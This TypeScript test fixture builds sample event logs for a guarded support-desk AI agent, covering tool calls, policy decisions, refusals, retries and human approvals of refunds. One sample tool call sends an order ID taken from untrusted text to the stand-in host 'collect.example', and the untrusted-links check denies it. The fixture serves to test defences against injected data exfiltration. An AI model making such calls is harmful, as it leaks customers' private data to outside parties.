import { digestJson } from '../../../src/base/digest.ts'
import type { JsonValue } from '../../../src/base/json.ts'
import type { Decision, Effect } from '../../../src/protocol/decision.ts'
import type { StructuralEvent } from '../../../src/protocol/run-event.ts'
import type { Usage } from '../../../src/protocol/usage.ts'

type Body<Event> = Event extends StructuralEvent
  ? Omit<Event, 'seq' | 'runId' | 'turn' | 'at'>
  : never

const policy = { name: 'support-desk', digest: `sha256:${'5e'.repeat(32)}` }
const started = Date.parse('2026-11-20T10:00:00.000Z')
export const runId = 'run_01kaf3wq9yf0p8v6m2t4x7b1cd'

/** Writes the events of a run, one after another. */
export class EventWriter {
  readonly events: StructuralEvent[] = []
  turn = 0
  #now = started
  readonly #digests = new Map<string, string>()

  wait(milliseconds: number): this {
    this.#now += milliseconds
    return this
  }

  get at(): string {
    return new Date(this.#now).toISOString()
  }

  add(body: Body<StructuralEvent>): this {
    this.events.push({
      ...body,
      seq: this.events.length,
      runId,
      turn: this.turn,
      at: this.at,
    } as StructuralEvent)
    return this
  }

  start(mode: 'enforce' | 'shadow' = 'enforce'): this {
    return this.add({
      type: 'run-start',
      session: 's-204',
      principal: {
        subject: 'u1',
        issuer: 'https://id.example',
        roles: ['support'],
        scopes: ['refund:write'],
        agent: 'desk-bot',
        claims: { secret: 'claim-secret' },
      },
      policy: { ...policy, mode, file: 'policies/support-desk.yaml' },
      tools: {
        digest: `sha256:${'70'.repeat(32)}`,
        names: ['get_order', 'refund', 'web.get'],
        pinned: ['refund'],
      },
      model: { id: 'anthropic/claude-haiku-4.5', provider: 'openrouter' },
      limits: { maxTurns: 20 },
      versions: { sallyport: '0.1.0', node: '24.21.0' },
      messages: [{ role: 'user', content: 'refund order O-7' }],
    })
  }

  beginTurn(): this {
    this.turn++
    return this.add({ type: 'turn-start' })
  }

  endTurn(durationMs: number, usage: Usage): this {
    return this.add({
      type: 'turn-end',
      finishReason: { unified: 'tool-calls', raw: 'tool_calls' },
      usage,
      cost: { amount: 0.0021, currency: 'USD', source: 'provider' },
      attempts: 1,
      durationMs,
      model: 'anthropic/claude-haiku-4.5',
      responseId: `gen-${this.turn}`,
    })
  }

  propose(
    index: number,
    tool: string,
    args: JsonValue | null,
    sensitive?: readonly string[],
  ): this {
    const argsDigest = digestJson(args ?? 'raw')
    this.#digests.set(this.callId(index), argsDigest)
    return this.add({
      type: 'tool-call',
      callId: this.callId(index),
      providerId: `toolu_${this.turn}${index}`,
      index,
      tool,
      args,
      rawArgs: args === null ? '{"order": ' : JSON.stringify(args),
      argsDigest,
      ...(sensitive === undefined ? {} : { sensitive }),
    })
  }

  decide(
    index: number,
    effect: Effect,
    rule: string,
    reasons: readonly string[],
    extra: Partial<Decision> = {},
  ): this {
    const inFile = !['default', 'bad_json', 'unknown_tool'].includes(rule)
    return this.add({
      type: 'decision',
      callId: this.callId(index),
      decision: {
        effect,
        rule,
        rules: inFile
          ? [{ id: rule, effect, file: 'policies/support-desk.yaml', line: 31 + index, column: 5 }]
          : [],
        reasons,
        obligations: [],
        labels: [],
        policy,
        at: this.at,
        ...extra,
      },
    })
  }

  execute(
    index: number,
    tool: string,
    executionMs: number,
    result: JsonValue,
    approvalMs = 0,
  ): this {
    return this.startTool(index, tool)
      .wait(executionMs)
      .add({
        type: 'tool-result',
        callId: this.callId(index),
        tool,
        status: 'success',
        result,
        content: JSON.stringify(result),
        attempts: 1,
        queueMs: 1,
        approvalMs,
        executionMs,
        resultDigest: digestJson(result),
        resultBytes: JSON.stringify(result).length,
      })
  }

  startTool(index: number, tool: string): this {
    return this.add({
      type: 'execution-start',
      callId: this.callId(index),
      tool,
      argsDigest: this.#digests.get(this.callId(index)) ?? digestJson(index),
      idempotencyKey: this.callId(index),
    })
  }

  refuse(
    index: number,
    tool: string,
    body: Partial<Body<Extract<StructuralEvent, { type: 'tool-result' }>>>,
  ): this {
    return this.add({
      type: 'tool-result',
      callId: this.callId(index),
      tool,
      status: 'error-security',
      content: 'refused',
      attempts: 0,
      queueMs: 0,
      approvalMs: 0,
      executionMs: 0,
      ...body,
    })
  }

  ask(index: number, tool: string, args: JsonValue, reasons: readonly string[]): this {
    return this.add({
      type: 'approval-request',
      approvalId: `apr_${this.turn}_${index}`,
      callId: this.callId(index),
      tool,
      args,
      argsDigest: digestJson(args),
      rules: [],
      reasons,
      approvers: [{ roles: ['lead'], count: 1 }],
      expiresAt: '2026-11-20T10:15:00.000Z',
      editable: [],
    })
  }

  answer(
    index: number,
    action: 'approve' | 'deny' | 'edit' | 'expire',
    extra: { reason?: string; args?: JsonValue } = {},
  ): this {
    return this.add({
      type: 'approval-decision',
      approvalId: `apr_${this.turn}_${index}`,
      callId: this.callId(index),
      action,
      ...(action === 'edit' ? { argsDigest: this.#edit(index, extra.args ?? null) } : {}),
      by: action === 'expire' ? null : { subject: 'lead-1', roles: ['lead'] },
      ...extra,
    })
  }

  end(status: 'completed' | 'needs-approval' | 'error'): this {
    return this.add({ type: 'end', status, head: `sha256:${'aa'.repeat(32)}` })
  }

  #edit(index: number, args: JsonValue): string {
    const digest = digestJson(args)
    this.#digests.set(this.callId(index), digest)
    return digest
  }

  callId(index: number): string {
    return `${runId}-${this.turn}-${index}`
  }
}

export const usage: Usage = {
  inputTokens: 1834,
  outputTokens: 212,
  cacheReadTokens: 1024,
  cacheWriteTokens: 0,
  reasoningTokens: 40,
}

/** A run in which most things happen: reads, refusals, an approval, a failure, a retry. */
export function sampleEvents(mode: 'enforce' | 'shadow' = 'enforce'): readonly StructuralEvent[] {
  const shadow = mode === 'shadow' ? { shadow: true } : {}
  const writer = new EventWriter().start(mode).wait(3).beginTurn()
  writer
    .wait(310)
    .add({
      type: 'retry',
      attempt: 1,
      delayMs: 400,
      error: {
        code: 'model-overloaded',
        message: 'the endpoint answered 529',
        retryable: true,
        status: 529,
      },
    })
    .wait(1200)
    .add({ type: 'usage', usage, message: null })
    .propose(0, 'get_order', { order: 'O-7' })
    .propose(1, 'refund', { order: 'O-7', amount: 500, card: '4111 1111 1111 1111' }, ['/card'])
    .propose(2, 'web.get', { url: 'https://collect.example/?d=O-7' })
    .endTurn(1510, usage)
    .decide(0, 'allow', 'read-orders', ['`read-orders` allows it'], shadow)
    .decide(1, 'deny', 'refund-limit', ['`/amount` is 500, at most 100 is allowed'], shadow)
    .decide(
      2,
      'deny',
      'flow.untrustedLinks',
      ['the URL carries `O-7`, which came from untrusted text of call 1.0'],
      {
        labels: [
          {
            argument: '/recipient',
            trust: 'untrusted',
            secrecy: 'private',
            from: [{ kind: 'tool', tool: 'read_file', callId: 'c-1', field: '/0/body' }],
          },
        ],
        ...shadow,
      },
    )
    .execute(0, 'get_order', 48, { order: 'O-7', total: 500 })
  if (mode === 'shadow')
    writer.execute(1, 'refund', 30, { ok: true }).execute(2, 'web.get', 80, 'ok')
  else {
    writer
      .refuse(1, 'refund', {
        error: {
          code: 'denied',
          message: 'rule `refund-limit` refused the call',
          retryable: false,
          help: 'raise `maximum` of `/amount` in rule `refund-small`, policies/support-desk.yaml:33:5',
        },
      })
      .refuse(2, 'web.get', {
        error: {
          code: 'denied',
          message: 'check `flow.untrustedLinks` refused the call',
          retryable: false,
          help: 'label the output field as trusted, or let a person answer with `untrustedLinks: ask`',
        },
      })
  }
  const shared = { order: 'O-7', amount: 80 }
  return writer
    .beginTurn()
    .wait(900)
    .propose(0, 'refund', shared)
    .propose(1, 'refund', { order: 'O-8', amount: 60 })
    .propose(2, 'send_mail', null)
    .propose(3, 'search', { q: 'order O-7' })
    .endTurn(900, usage)
    .decide(0, 'ask', 'refund-big', ['amounts over 50 need a lead'])
    .decide(1, 'ask', 'refund-big', ['amounts over 50 need a lead'])
    .decide(2, 'deny', 'bad_json', ['the arguments are not JSON'])
    .decide(3, 'allow', 'search-all', [])
    .refuse(2, 'send_mail', {
      status: 'error-parsing',
      error: { code: 'bad-json', message: 'the text is not JSON', retryable: false },
    })
    .ask(0, 'refund', shared, ['amounts over 50 need a lead'])
    .ask(1, 'refund', { order: 'O-8', amount: 60 }, ['amounts over 50 need a lead'])
    .startTool(3, 'search')
    .wait(250)
    .refuse(3, 'search', {
      status: 'error-execution',
      attempts: 2,
      executionMs: 250,
      error: { code: 'tool-failed', message: 'connection reset by peer', retryable: false },
    })
    .wait(42_000)
    .answer(0, 'approve')
    .answer(1, 'deny', { reason: 'customer was refunded by phone' })
    .refuse(1, 'refund', {
      status: 'denied-by-human',
      approvalMs: 42_000,
      error: { code: 'approval-denied', message: 'a person refused the call', retryable: false },
    })
    .execute(0, 'refund', 310, { ok: true, id: 'R-1' }, 42_000)
    .beginTurn()
    .wait(700)
    .endTurn(700, usage)
    .end('completed').events
}
